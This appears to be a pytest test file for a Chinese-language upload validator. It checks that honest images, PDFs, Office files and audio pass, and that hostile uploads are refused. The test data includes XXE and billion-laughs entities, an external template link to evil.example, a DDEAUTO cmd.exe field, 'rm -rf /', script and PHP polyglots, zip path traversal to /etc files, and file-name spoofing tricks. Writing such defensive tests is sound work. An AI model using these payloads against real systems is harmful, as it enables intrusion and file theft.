"""Which uploads may come in: every honest kind does, every hostile family does not."""

import os
import re

import pytest

from huiyin.documents.files import (
    ACCEPT,
    BY_NAME,
    LONGEST_NAME,
    MOST_BYTES,
    MOST_BYTES_IN_ALL,
    MOST_FILES,
    TYPES,
    Fault,
    Refused,
    judge,
    safe_name,
    within_limits,
)
from tests.documents import hostile
from tests.documents.hostile import (
    M4A,
    MP3,
    MP4,
    WAVE,
    docx_with,
    office,
    old_office,
    packed,
    picture,
)

OFFICE = "application/vnd.openxmlformats-officedocument"

HONEST = [
    ("照片.jpg", picture(), "image/jpeg"),
    ("照片.JPG", picture(exif=True), "image/jpeg"),
    ("微信图片.jpg", picture("PNG"), "image/png"),
    ("图.png", picture("PNG"), "image/png"),
    ("图.webp", picture("WEBP"), "image/webp"),
    ("图.gif", picture("GIF"), "image/gif"),
    ("动态照片.jpg", picture() + MP4, "image/jpeg"),
    ("合同.pdf", hostile.pdf(), "application/pdf"),
    ("流水.pdf", hostile.pdf(password="secret"), "application/pdf"),
    ("情况说明.docx", office(), f"{OFFICE}.wordprocessingml.document"),
    ("考勤.xlsx", office("xlsx"), f"{OFFICE}.spreadsheetml.sheet"),
    ("材料.doc", old_office("WordDocument"), "application/msword"),
    ("工资.xls", old_office("Workbook"), "application/vnd.ms-excel"),
    ("说明.txt", "小区停水三天".encode(), "text/plain"),
    ("说明.txt", "小区停水三天".encode("gb18030"), "text/plain"),
    ("说明.txt", "小区停水三天".encode("utf-16"), "text/plain"),
    ("录音.mp3", MP3, "audio/mpeg"),
    ("录音.mp3", b"ID3\x04" + bytes(40), "audio/mpeg"),
    ("录音.m4a", M4A, "audio/mp4"),
    ("录像.mp4", MP4, "video/mp4"),
    ("录音.wav", WAVE, "audio/wav"),
    ("回形.pdf.jpg", picture(), "image/jpeg"),
]

RELATIONS = (
    b'<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" '
    b'TargetMode="External"/>'
)
XXE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
LAUGHS = b'<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><a>&b;</a>'

HOSTILE = [
    # nothing, or too much
    ("空.jpg", b"", Fault.EMPTY),
    ("大.jpg", picture() + bytes(MOST_BYTES), Fault.LARGE),
    # pages of the web and their relatives, by any name
    ("图.svg", b"<svg onload='x()'/>", Fault.WEB_PAGE),
    ("图.svgz", b"\x1f\x8b\x08", Fault.WEB_PAGE),
    ("页.html", b"<html><script>x</script>", Fault.WEB_PAGE),
    ("页.xhtml", b"<?xml version='1.0'?><html/>", Fault.WEB_PAGE),
    ("页.mht", b"MIME-Version: 1.0", Fault.WEB_PAGE),
    ("页.hta", b"<hta:application>", Fault.WEB_PAGE),
    ("照片.jpg", b"<html><script>x</script>", Fault.WEB_PAGE),
    ("照片.png", b"  <svg xmlns='x'><script/></svg>", Fault.WEB_PAGE),
    ("合同.pdf", b"<!DOCTYPE html><html>", Fault.WEB_PAGE),
    ("说明.txt", b"<ScRiPt>x</ScRiPt>", Fault.WEB_PAGE),
    ("说明.txt", b"<?php system('x');", Fault.WEB_PAGE),
    ("说明.txt", "<html><script>x</script>".encode("utf-16"), Fault.WEB_PAGE),
    ("合同.pdf", "<html><script>x</script>".encode("utf-16-be"), Fault.WEB_PAGE),
    # programs
    ("程序.exe", b"MZ" + bytes(60), Fault.PROGRAM),
    ("照片.jpg", b"MZ" + bytes(60), Fault.PROGRAM),
    ("照片.jpg", b"\x7fELF" + bytes(60), Fault.PROGRAM),
    ("说明.txt", b"#!/bin/sh\nrm -rf /", Fault.PROGRAM),
    ("快捷.lnk", b"L\0\0\0", Fault.PROGRAM),
    ("脚本.ps1", b"Get-Item", Fault.PROGRAM),
    ("脚本.js", b"alert(1)", Fault.PROGRAM),
    ("照片.jpg.exe", picture(), Fault.PROGRAM),
    ("照片.jpg.exe.. ", picture(), Fault.PROGRAM),
    ("照片\u202egpj.exe", picture(), Fault.PROGRAM),
    ("照片.jpg\0.exe", picture(), Fault.PROGRAM),
    ("测试.txt.com", hostile.EICAR, Fault.PROGRAM),
    # archives
    ("材料.zip", packed({"a.jpg": picture()}), Fault.ARCHIVE),
    ("材料.rar", b"Rar!\x1a\x07", Fault.ARCHIVE),
    ("材料.jar", packed({"META-INF/MANIFEST.MF": b"x"}), Fault.ARCHIVE),
    ("材料.bin", packed({"a": b"x"}), Fault.ARCHIVE),
    ("材料.dat", b"7z\xbc\xaf\x27\x1c", Fault.ARCHIVE),
    ("材料.txt", b"\x1f\x8b\x08" + bytes(20), Fault.ARCHIVE),
    ("照片.jpg", packed({"a": b"x"}), Fault.MISMATCH),
    # two files in one
    ("照片.gif", picture("GIF") + packed({"A.class": b"x"}), Fault.ARCHIVE),
    ("照片.jpg", picture() + packed({"a": b"x"}), Fault.ARCHIVE),
    ("合同.pdf", hostile.pdf() + packed({"a": b"x"}), Fault.ARCHIVE),
    ("照片.gif", b"GIF89a<script>x</script>" + bytes(40), Fault.WEB_PAGE),
    ("照片.png", b"\x89PNG\r\n\x1a\n<?php x ?>" + bytes(40), Fault.WEB_PAGE),
    # the wrong ending
    ("合同.pdf", picture(), Fault.MISMATCH),
    ("照片.jpg", hostile.pdf(), Fault.MISMATCH),
    ("照片.jpg", WAVE, Fault.MISMATCH),
    ("说明.txt", bytes(range(256)) * 4, Fault.MISMATCH),
    ("材料.docx", office("xlsx"), Fault.MISMATCH),
    ("材料.docx", packed({"a": b"x"}), Fault.MISMATCH),
    ("无后缀", b"abc", Fault.UNKNOWN),
    ("数据.dat", b"abc", Fault.UNKNOWN),
    ("图.bmp", b"BM" + bytes(60), Fault.UNKNOWN),
    ("图.tiff", b"II*\0" + bytes(60), Fault.UNKNOWN),
    ("旧.doc", old_office("Root Entry"), Fault.UNKNOWN),
    # told how to mend it
    ("图.heic", b"\0\0\0\x18ftypheic" + bytes(40), Fault.HEIC),
    ("图.jpg", b"\0\0\0\x18ftypheic" + bytes(40), Fault.HEIC),
    ("录像.mov", b"\0\0\0\x14ftypqt  " + bytes(40), Fault.VIDEO),
    ("录像.mp4", b"\0\0\0\x14ftypqt  " + bytes(40), Fault.VIDEO),
    ("公文.ofd", packed({"OFD.xml": b"<x/>"}), Fault.OFD),
    ("公文.wps", old_office("WordDocument"), Fault.OFD),
    # office documents that act
    ("表.xlsm", office("xlsx"), Fault.MACRO),
    ("材料.docx", office(word__vbaProject_bin=b"x"), Fault.MACRO),
    ("材料.docx", docx_with("word/vbaData.xml", b"<x/>"), Fault.MACRO),
    ("表.xlsx", office("xlsx", xl__macrosheets__s_xml=b"<x/>"), Fault.MACRO),
    ("材料.docx", docx_with("word/activeX/activeX1.xml", b"<x/>"), Fault.OBJECT),
    ("材料.docx", docx_with("word/embeddings/oleObject1.bin", b"x"), Fault.OBJECT),
    ("材料.docx", docx_with("word/embeddings/a.exe", b"MZ"), Fault.OBJECT),
    ("材料.docx", docx_with("word/_rels/settings.xml.rels", RELATIONS), Fault.OBJECT),
    ("材料.docx", docx_with("word/styles.xml", XXE), Fault.OBJECT),
    ("材料.docx", docx_with("word/styles.xml", XXE.decode().encode("utf-16")), Fault.OBJECT),
    ("材料.docx", docx_with("word/styles.xml", LAUGHS), Fault.OBJECT),
    (
        "材料.docx",
        docx_with("word/a.xml", b"<w:instrText> DDEAUTO c:\\\\cmd.exe</w:instrText>"),
        Fault.OBJECT,
    ),
    ("材料.doc", old_office("WordDocument", "Macros", "_VBA_PROJECT"), Fault.MACRO),
    ("表.xls", old_office("Workbook", "_VBA_PROJECT_CUR"), Fault.MACRO),
    ("材料.doc", old_office("WordDocument", "\x01Ole10Native"), Fault.OBJECT),
    ("材料.doc", old_office("WordDocument", "Equation Native"), Fault.OBJECT),
    ("材料.docx", old_office("EncryptedPackage", "EncryptionInfo"), Fault.LOCKED),
    # archives that burst, climb or lie
    ("材料.docx", docx_with("word/bomb.xml", bytes(30_000_000)), Fault.DAMAGED),
    ("材料.docx", packed({f"{n}.xml": b"x" for n in range(1001)}), Fault.DAMAGED),
    ("材料.docx", docx_with("../../etc/cron.d/x", b"x"), Fault.DAMAGED),
    ("材料.docx", docx_with("/etc/passwd", b"x"), Fault.DAMAGED),
    ("材料.docx", docx_with("word\\..\\..\\x", b"x"), Fault.DAMAGED),
    ("材料.docx", docx_with("word/link", b"/etc/passwd", link="word/link"), Fault.DAMAGED),
    ("材料.docx", hostile.locked_zip(), Fault.LOCKED),
    ("材料.docx", hostile.overlapping_zip(), Fault.DAMAGED),
    ("材料.docx", office()[:200], Fault.DAMAGED),
    ("材料.docx", b"PK\x03\x04" + os.urandom(300), Fault.DAMAGED),
]


@pytest.mark.parametrize(("name", "content", "media_type"), HONEST)
def test_honest_files_come_in(name: str, content: bytes, media_type: str) -> None:
    found = judge(name, content)
    assert found.name == media_type
    assert BY_NAME[found.name] is found


@pytest.mark.parametrize(("name", "content", "fault"), HOSTILE)
def test_hostile_files_stay_out(name: str, content: bytes, fault: Fault) -> None:
    with pytest.raises(Refused) as refused:
        judge(name, content)
    assert refused.value.fault is fault
    assert refused.value.sentence == fault.zh


def test_every_refusal_says_what_to_do_and_is_met() -> None:
    met = {fault for _, _, fault in HOSTILE} | {Fault.MANY, Fault.LARGE_IN_ALL}
    assert met == set(Fault)
    assert all(re.search(r"请|可以", fault.zh) for fault in Fault)


def test_the_limit_itself_comes_in() -> None:
    start = picture()
    assert judge("大.jpg", start + bytes(MOST_BYTES - len(start))).name == "image/jpeg"


def test_limits_in_all() -> None:
    within_limits([MOST_BYTES_IN_ALL // MOST_FILES] * MOST_FILES)
    with pytest.raises(Refused, match="20个"):
        within_limits([1] * (MOST_FILES + 1))
    with pytest.raises(Refused, match="100MB"):
        within_limits([MOST_BYTES] * 5 + [1])


def test_the_file_field_offers_what_may_come_in() -> None:
    assert set(ACCEPT.split(",")) == {f".{ending}" for each in TYPES for ending in each.endings}
    assert ".jpg" in ACCEPT
    assert ".heic" not in ACCEPT


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("照片.jpg", "照片.jpg"),
        ("../../etc/passwd", "passwd"),
        ("C:\\用户\\我的照片.jpg", "我的照片.jpg"),
        ("照片\u202egpj.exe", "照片gpj.exe"),
        ("a\u200bb\ufeff.jpg", "ab.jpg"),
        ("a\0b\r\nSet-Cookie: x.jpg", "abSet-Cookie_ x.jpg"),
        ("a∕b／c.jpg", "a_b_c.jpg"),
        ('a<b>"c|d?e*.jpg', "a_b__c_d_e_.jpg"),
        ("照片.jpg . . ", "照片.jpg"),
        (".htaccess", "htaccess"),
        ("-rf.txt", "rf.txt"),
        ("CON.txt", "_.txt"),
        ("com1", "_"),
        ("e\u0301.jpg", "\u00e9.jpg"),
        ("a\ud800b.jpg", "ab.jpg"),
        ("...", "附件"),
        ("", "附件"),
    ],
)
def test_names_are_made_safe(name: str, safe: str) -> None:
    assert safe_name(name) == safe
    assert safe_name(safe) == safe


@pytest.mark.parametrize("length", [80, 84, 85, 86, 255, 256, 4000])
def test_long_names_keep_their_ending(length: int) -> None:
    made = safe_name("长" * length + ".docx")
    assert made.endswith(".docx")
    assert len(made.encode()) <= LONGEST_NAME
    assert "\ufffd" not in made
